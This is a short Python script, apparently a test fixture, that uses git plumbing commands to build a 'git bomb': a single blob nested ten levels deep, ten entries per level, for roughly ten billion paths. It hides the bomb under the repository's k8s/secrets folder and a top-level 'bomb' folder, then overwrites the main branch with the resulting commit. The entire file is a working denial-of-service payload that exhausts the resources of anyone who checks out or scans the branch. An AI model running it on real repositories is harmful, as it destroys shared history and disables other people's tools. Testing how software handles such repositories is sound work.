"""Trees of ten times the same tree."""

from tricks import git

blob = git("hash-object", "-w", "--stdin", stdin=b"bomb\n").strip()
tree = git("mktree", stdin="".join(f"100644 blob {blob}\tf{n}\n" for n in range(10)).encode()).strip()
for _ in range(9):
    tree = git("mktree", stdin="".join(f"040000 tree {tree}\td{n}\n" for n in range(10)).encode()).strip()
own = git("ls-tree", "HEAD")
k8s = git("rev-parse", "HEAD:k8s").strip()
inner = git("ls-tree", k8s) + f"040000 tree {tree}\tsecrets\n"
k8s_bomb = git("mktree", stdin=inner.encode()).strip()
top = git("mktree", stdin=(own.replace(k8s, k8s_bomb) + f"040000 tree {tree}\tbomb\n").encode()).strip()
commit = git("commit-tree", top, "-m", "bomb").strip()
git("update-ref", "refs/heads/main", commit)
